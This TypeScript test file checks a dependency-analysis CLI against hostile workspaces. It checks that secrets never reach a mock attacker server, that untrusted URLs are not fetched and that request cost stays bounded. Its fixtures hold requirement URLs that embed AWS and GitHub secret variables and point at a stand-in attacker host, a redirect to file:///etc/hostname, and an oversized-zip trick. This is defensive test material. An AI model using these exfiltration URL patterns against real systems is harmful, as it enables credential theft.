// The hostile-workspace suite, network half, through the built CLI: a loopback index standing for the person's (in front
// of a package index of real wheels) and a loopback attacker, each logging every request with its Authorization header.
// No secret (an environment variable, a netrc password) may reach a host it does not belong to, no URL an untrusted
// workspace names is fetched, output shows URLs as written, and one analysis's cost is bounded.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { checkJson, runCli, type JsonDiagnostic } from '../helpers/cli';
import { isolatedPipEnv, startPackageIndex, type PackageIndex } from '../helpers/package-index';
import { basicAuth, startRecordingServer, type RecordingServer } from '../helpers/recording-server';

const AWS = 'aws-secret-value-0123456789';
const GITHUB = 'ghp-secret-token-0123456789';
const TOKEN = 'page-secret-token-0123456789';
const NETRC_PASSWORD = 'netrc-default-password-42';
const ENV_SECRETS = [AWS, GITHUB, TOKEN];
const SECRETS = [...ENV_SECRETS, NETRC_PASSWORD, Buffer.from(`me:${NETRC_PASSWORD}`).toString('base64')];

/** A zip tail whose end record claims a central directory of `cdSize` bytes at `cdOffset`. */
function eocd(cdSize: number, cdOffset: number): Buffer {
  const b = Buffer.alloc(22);
  b.writeUInt32LE(0x06054b50, 0);
  b.writeUInt16LE(1, 8);
  b.writeUInt16LE(1, 10);
  b.writeUInt32LE(cdSize, 12);
  b.writeUInt32LE(cdOffset, 16);
  return b;
}

describe('stack-doctor check on a hostile workspace: the network', () => {
  let dir: string;
  let pkgs: PackageIndex;
  let user: RecordingServer;
  let attacker: RecordingServer;
  let env: NodeJS.ProcessEnv;
  let n = 0;
  const BIG = 130 * 1024 * 1024;

  before(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sd-cli-trust-net-'));
    const huge = Array.from({ length: 3000 }, (_, i) => `dep${i}>=1`);
    pkgs = await startPackageIndex([
      { name: 'tiny', version: '1.0' },
      { name: 'meta', version: '1.0', dependencies: [`y @ http://ATTACKER/\${GITHUB_TOKEN}/y-1.0-py3-none-any.whl`] },
      { name: 'huge', version: '1.0', dependencies: huge },
    ]);
    attacker = await startRecordingServer({
      handle: (req, res) => {
        if (req.url === '/redirect-file') {
          res.writeHead(302, { Location: 'file:///etc/hostname' });
          res.end();
          return true;
        }
        return false;
      },
    });
    user = await startRecordingServer({
      forward: new URL(pkgs.url).origin,
      handle: (req, res) => {
        const page = (links: string[]) => {
          res.writeHead(200, { 'Content-Type': 'text/html' });
          res.end(`<!DOCTYPE html><html><body>${links.map((l) => `<a href="${l}">f</a>`).join('\n')}</body></html>`);
          return true;
        };
        if (req.url === '/simple/tok/')
          return page([`${attacker.origin}/files/tok-1.0-py3-none-any.whl?sig=\${TOKEN}`]);
        if (req.url === '/simple/redir/') return page(['/files/redir-1.0-py3-none-any.whl']);
        if (req.url === '/files/redir-1.0-py3-none-any.whl') {
          res.writeHead(302, { Location: `${attacker.origin}/redirect-file` });
          res.end();
          return true;
        }
        if (req.url === '/simple/bigcd/') return page(['/files/bigcd-1.0-py3-none-any.whl']);
        if (req.url === '/files/bigcd-1.0-py3-none-any.whl') {
          // A wheel claiming a 120 MiB central directory in a 130 MiB file: only its last MiB is ever served.
          const lastMiB = Buffer.alloc(1024 * 1024);
          eocd(120 * 1024 * 1024, 1000).copy(lastMiB, lastMiB.length - 22);
          const from = BIG - lastMiB.length;
          const range = String(req.headers.range ?? '');
          const suffix = /^bytes=-(\d+)$/.exec(range);
          const span = /^bytes=(\d+)-(\d+)$/.exec(range);
          const start = suffix ? BIG - Number(suffix[1]) : span ? Number(span[1]) : -1;
          const end = suffix ? BIG - 1 : span ? Math.min(BIG - 1, Number(span[2])) : -1;
          if (start >= from && end >= start) {
            const part = lastMiB.subarray(start - from, end - from + 1);
            res.writeHead(206, { 'Content-Length': part.length, 'Content-Range': `bytes ${start}-${end}/${BIG}` });
            res.end(part);
          } else {
            res.writeHead(416, { 'Content-Range': `bytes */${BIG}` });
            res.end();
          }
          return true;
        }
        return false;
      },
    });
    const netrc = path.join(dir, 'netrc');
    fs.writeFileSync(netrc, `default login me password ${NETRC_PASSWORD}\n`, { mode: 0o600 });
    env = {
      ...isolatedPipEnv(),
      AWS_SECRET_ACCESS_KEY: AWS,
      GITHUB_TOKEN: GITHUB,
      TOKEN,
      NETRC: netrc,
      HOME: dir,
      CONDARC: path.join(dir, 'no-condarc'),
      STACK_DOCTOR_CODE_CACHE: 'off',
    };
  });
  after(async () => {
    await Promise.all([pkgs.close(), user.close(), attacker.close()]);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  /** A fresh project folder with these files (ATTACKER in them is the attacker's origin). */
  const project = (files: Record<string, string>): string => {
    const p = path.join(dir, `p${++n}`);
    for (const [name, text] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(p, name)), { recursive: true });
      fs.writeFileSync(path.join(p, name), text.replaceAll('http://ATTACKER', attacker.origin));
    }
    return p;
  };
  const check = async (p: string, extra: string[] = []) => {
    attacker.requests.length = 0;
    user.requests.length = 0;
    return checkJson(
      [p, '--index-url', `${user.origin}/simple`, '--cache-dir', path.join(p, '.cache'), ...extra],
      dir,
      env,
    );
  };
  const noSecretIn = (what: string, text: string, secrets = SECRETS) => {
    for (const s of secrets) assert.ok(!text.includes(s), `${what} holds a secret: ${text}`);
  };
  const messages = (ds: JsonDiagnostic[]) => ds.map((d) => `${d.code} ${d.range.start.line}: ${d.message}`).join('\n');

  it('--untrusted: no URL a file names is fetched, no ${VAR} is expanded, and each line says why', async () => {
    const p = project({
      'requirements.txt':
        `x @ http://ATTACKER/\${AWS_SECRET_ACCESS_KEY}/x-1.0-py3-none-any.whl\n` +
        `http://ATTACKER/\${AWS_SECRET_ACCESS_KEY}/z-1.0-py3-none-any.whl\n` +
        `--extra-index-url http://ATTACKER/\${AWS_SECRET_ACCESS_KEY}/simple\n` +
        `\${AWS_SECRET_ACCESS_KEY}==1.0\ntiny\n`,
      'pyproject.toml':
        `[project]\nname = "p"\nversion = "1"\n` +
        `dependencies = ["w @ http://ATTACKER/\${AWS_SECRET_ACCESS_KEY}/w-1.0-py3-none-any.whl"]\n` +
        `[project.optional-dependencies]\nx = ["v @ http://ATTACKER/v-1.0-py3-none-any.whl"]\n`,
    });
    const r = await check(p, ['--untrusted']);
    assert.deepEqual(attacker.requests, [], 'the attacker was contacted');
    noSecretIn('the index was asked', user.transcript(), ENV_SECRETS);
    assert.ok(
      user.requests.some((q) => q.path === '/simple/tiny/'),
      "the person's index is still asked",
    );
    const notChecked = r.diagnostics.filter((d) => /not checked in an untrusted workspace/i.test(d.message));
    assert.deepEqual(
      notChecked.map((d) => `${path.basename(d.file)}:${d.range.start.line}`).sort(),
      ['pyproject.toml:3', 'pyproject.toml:5', 'requirements.txt:0', 'requirements.txt:1'],
      messages(r.diagnostics),
    );
    noSecretIn('the output', r.stdout);
  });

  it('an environment.yml pip: part of an untrusted workspace names no host that is asked', async () => {
    const p = project({
      'environment.yml':
        `name: e\nchannels:\n  - http://ATTACKER/conda\n  - nodefaults\ndependencies:\n  - pip:\n` +
        `    - x @ http://ATTACKER/\${AWS_SECRET_ACCESS_KEY}/x-1.0-py3-none-any.whl\n` +
        `    - --extra-index-url http://ATTACKER/simple\n    - tiny\n`,
    });
    const r = await check(p, ['--untrusted']);
    assert.deepEqual(attacker.requests, []);
    assert.ok(r.diagnostics.some((d) => d.range.start.line === 6 && /untrusted workspace/.test(d.message)));
  });

  it('a pyproject URL is never expanded, trusted or not: pip does not expand there', async () => {
    const p = project({
      'pyproject.toml':
        `[project]\nname = "p"\nversion = "1"\n` +
        `dependencies = ["w @ http://ATTACKER/\${AWS_SECRET_ACCESS_KEY}/w-1.0-py3-none-any.whl"]\n`,
    });
    await check(p);
    noSecretIn('the attacker was asked', attacker.transcript());
  });

  it('a ${TOKEN} in a file link of an index page is not expanded (nor fetched)', async () => {
    const p = project({ 'requirements.txt': 'tok\n' });
    await check(p);
    assert.ok(user.requests.some((q) => q.path === '/simple/tok/'));
    noSecretIn('the attacker was asked', attacker.transcript());
  });

  it("a URL requirement in an index package's metadata is not followed, and a finding says so", async () => {
    const p = project({ 'requirements.txt': 'meta\n' });
    const r = await check(p);
    assert.deepEqual(attacker.requests, [], 'a host named only by metadata was contacted');
    assert.match(messages(r.diagnostics), /meta 1\.0 requires y from a URL in its metadata, which is not followed/);
    noSecretIn('the output', r.stdout);
  });

  it("netrc's default entry goes to the person's index, never to a host only a workspace file names", async () => {
    const p = project({ 'requirements.txt': 'x @ http://ATTACKER/x-1.0-py3-none-any.whl\ntiny\n' });
    await check(p);
    assert.ok(attacker.requests.length > 0, "a trusted workspace's URL is fetched");
    assert.deepEqual(
      attacker.requests.map((q) => q.authorization),
      attacker.requests.map(() => null),
    );
    assert.ok(user.requests.some((q) => q.authorization === basicAuth('me', NETRC_PASSWORD)));
  });

  it('a redirect to another host carries no credentials, and one to file: is refused', async () => {
    const p = project({ 'requirements.txt': 'redir\n' });
    const r = await check(p);
    const hop = attacker.requests.find((q) => q.path === '/redirect-file');
    assert.ok(hop, 'the redirect to another port was followed');
    assert.equal(hop.authorization, null);
    assert.match(messages(r.diagnostics), /Not fetched: file:\/\/\/etc\/hostname \(a redirect from/);
  });

  it('a central directory claimed at 120 MiB is not downloaded', async () => {
    const p = project({ 'requirements.txt': 'bigcd\n' });
    const r = await check(p);
    const ranges = user.requests.filter((q) => q.path.startsWith('/files/bigcd')).map((q) => q.range);
    for (const range of ranges) {
      const m = /^bytes=(\d+)-(\d+)$/.exec(range ?? '');
      if (m) assert.ok(Number(m[2]) - Number(m[1]) < 16 * 1024 * 1024, `asked for ${range}`);
      else assert.match(range ?? '', /^bytes=-\d+$/, `asked for the whole file (${range})`);
    }
    assert.match(messages(r.diagnostics), /central directory of 125829120 bytes, over the \d+-byte limit/);
  });

  it("3,000 Requires-Dist cost at most the analysis's budget of requests, and one finding says it was spent", async () => {
    const p = project({ 'requirements.txt': 'huge\n' });
    const r = await check(p);
    assert.ok(user.requests.length <= 2050, `${user.requests.length} requests`);
    const spent = r.diagnostics.filter((d) => /budget for index requests was spent/.test(d.message));
    assert.equal(spent.length, 1, messages(r.diagnostics));
    assert.equal(spent[0]!.code, 'index-unreachable');
    assert.equal(spent[0]!.severity, 'information');
  });

  it('output shows a URL as written: ${TOKEN} in text, JSON, SARIF and list --format json, never its value', async () => {
    const p = project({ 'requirements.txt': `x @ http://ATTACKER/\${TOKEN}/x-1.0-py3-none-any.whl\n` });
    const json = await check(p);
    // A trusted requirements file is expanded as pip expands it: the request carries the value...
    assert.ok(attacker.requests.some((q) => q.path.includes(TOKEN)));
    // ...and no output does.
    noSecretIn('check --format json', json.stdout);
    assert.match(json.stdout, /\$\{TOKEN\}/);
    for (const args of [['check', '--format', 'sarif'], ['check'], ['list', '--format', 'json']]) {
      const out = await runCli(
        [...args, p, '--index-url', `${user.origin}/simple`, '--cache-dir', path.join(p, '.cache2')],
        dir,
        env,
      );
      noSecretIn(args.join(' '), out.stdout + out.stderr);
      if (args[0] === 'list') assert.match(out.stdout, /"url": "http:\/\/127\.0\.0\.1:\d+\/\$\{TOKEN\}\/x-1\.0/);
    }
  });
});
